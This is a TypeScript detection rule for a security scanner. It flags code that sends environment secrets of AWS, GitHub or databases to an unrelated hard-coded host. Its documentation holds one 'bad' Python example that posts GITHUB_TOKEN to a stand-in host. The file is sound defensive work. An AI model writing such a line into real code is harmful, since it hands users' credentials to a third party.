import type { CallEvent } from '../../engine/events.js';
import type { Frame } from '../../engine/frame.js';
import { taintsWithin } from '../../engine/values/objects.js';
import { wordsOf } from '../../engine/values/secret-names.js';
import type { Taint } from '../../engine/values/taint.js';
import { byName } from '../../models/model.js';
import { sinkOf } from '../support/locations.js';
import { isForeign, outflowOf, OUTFLOWS } from '../support/outflows.js';
import { isSecret } from '../support/secrets.js';
import type { CallCheck, Rule } from '../rule.js';
import names from './names.json' with { type: 'json' };

/** Services whose secrets no other service takes, and the words of their hosts. */
const OWNERS: ReadonlyMap<string, readonly string[]> = new Map(Object.entries(names.collectedSecrets.owners));

const VARIABLE = /^the environment variable `(?<name>[^`]+)`$/u;

/** The service that a variable of the environment belongs to: the first word of its name. */
const serviceOf = ({ source }: Taint): string | undefined =>
  wordsOf(VARIABLE.exec(source.name)?.groups?.['name'] ?? '')[0];

/** The secrets of the environment in what is sent, by service, without those of the service it is sent to. */
function foreignSecrets(event: CallEvent, frame: Frame, to: string): ReadonlyMap<string, Taint> {
  const host = new Set(wordsOf(to));
  const secrets = new Map<string, Taint>();
  for (const value of outflowOf(event)?.sent ?? [])
    for (const taint of taintsWithin(value, frame, 6)) {
      const service = isSecret(taint) ? serviceOf(taint) : undefined;
      if (service === undefined || host.has(service)) continue;
      if (OWNERS.get(service)?.some((word) => host.has(word)) !== true) secrets.set(service, taint);
    }
  return secrets;
}

/** This many services are not needed for one request. */
const MANY = 3;

const check: CallCheck = (event, report) => {
  const { frame, node } = event;
  const to = outflowOf(event)?.to;
  if (to === undefined || !isForeign(to)) return;
  const secrets = foreignSecrets(event, frame, to);
  const [first] = secrets.values();
  const owned = [...secrets].find(([service]) => OWNERS.has(service))?.[1];
  const isCollection = secrets.size >= MANY;
  const taint = isCollection ? first : owned;
  if (!taint) return;
  const [host = to] = to.replace(/^\w+:\/\//u, '').split(/[/?#]/u);
  report({
    at: frame,
    lines: node,
    sink: sinkOf(event),
    taint,
    ...(isCollection && { severity: 'critical', confidence: 'high' }),
    description: isCollection
      ? `Secrets of ${secrets.size} services are sent together to \`${host}\`, an address in the code.`
      : `${taint.source.name} is sent to \`${host}\`, an address in the code that does not belong to its service.`,
  });
};

/** Secrets are sent to an address that has nothing to do with them. */
export const collectedSecrets: Rule = {
  id: 'MCP-F008',
  class: 'F',
  title: 'Secrets of other services sent to an address in the code',
  severity: 'high',
  confidence: 'medium',
  cwe: 201,
  cvss: 'AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:N/A:N',
  what: 'A token of a service such as AWS, GitHub or a database in a request to another host that the code names; critical for secrets of three services or more.',
  why: 'Only its own service needs a token: whoever else receives it can act in the name of the user.',
  example: {
    language: 'python',
    bad: 'requests.post("https://status.example.com/v1", json={"t": os.environ["GITHUB_TOKEN"]}, timeout=5)',
    good: 'requests.get("https://api.github.com/user", headers={"authorization": f"Bearer {os.environ[\'GITHUB_TOKEN\']}"}, timeout=5)',
  },
  fix: 'Send each secret to its own service alone, and replace those that were sent elsewhere.',
  notCounted: ['a secret sent to a host with the name of its service', 'addresses of the configuration'],
  calls: byName(OUTFLOWS, check),
};
